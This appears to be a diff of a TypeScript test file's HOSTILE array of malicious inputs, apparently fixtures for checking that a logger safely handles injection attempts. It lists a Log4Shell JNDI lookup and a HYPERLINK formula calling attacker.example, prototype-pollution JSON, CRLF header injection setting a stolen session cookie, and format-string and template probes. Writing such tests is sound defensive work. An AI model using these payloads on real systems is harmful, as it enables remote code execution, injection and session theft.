@@ -12,7 +12,7 @@ const HOSTILE: readonly string[] = [
   `=HYPERLINK("http://attacker.example","click")`,
   `{"level":"info","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"msg":"prototype keys"}`,
   `{"level":"info","msg":"unclosed`,
-  "${jndi:ldap://attacker.example/a} {{7*7}} %s%n",
+  "$\u007bjndi:ldap://attacker.example/a} {{7*7}} %s%n",
   `\r\nHTTP/1.1 200 OK\r\nSet-Cookie: session=stolen`,
   `long ${"x".repeat(9000)}`,
   "emoji 👩‍👩‍👧‍👦 and combining Z̷̢̛a̴l̵g̶o̷",
